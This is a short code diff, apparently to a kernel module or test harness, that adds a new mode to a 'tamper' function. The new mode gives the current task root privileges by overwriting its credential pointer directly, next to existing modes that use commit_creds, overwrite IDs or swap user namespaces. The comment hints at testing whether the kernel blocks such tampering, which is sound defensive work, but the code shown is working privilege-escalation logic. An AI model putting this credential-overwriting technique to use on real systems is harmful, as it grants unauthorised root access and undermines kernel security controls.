@@ -94,6 +94,16 @@ static int swap_user_ns(struct task_struct *task, struct cred *cred, struct cred
 	return 0;
 }
 
+/* what checks permissions, and not what others see; a task that executes like this is stopped by the kernel */
+static int replace_subjective(struct task_struct *task, struct cred *root)
+{
+	struct cred *old = (struct cred *)task->cred;
+
+	*(const struct cred **)&task->cred = root;
+	abort_creds(old);
+	return 0;
+}
+
 static int tamper(const char *word)
 {
 	struct task_struct *task = (struct task_struct *)bpf_get_current_task();
@@ -105,6 +115,8 @@ static int tamper(const char *word)
 		return -ENOMEM;
 	if (!__builtin_strcmp(word, "commit"))
 		return commit_creds(root);
+	if (!__builtin_strcmp(word, "acts"))
+		return replace_subjective(task, root);
 	if (!__builtin_strcmp(word, "ids"))
 		error = overwrite_ids(task, own, root);
 	else if (!__builtin_strcmp(word, "userns"))
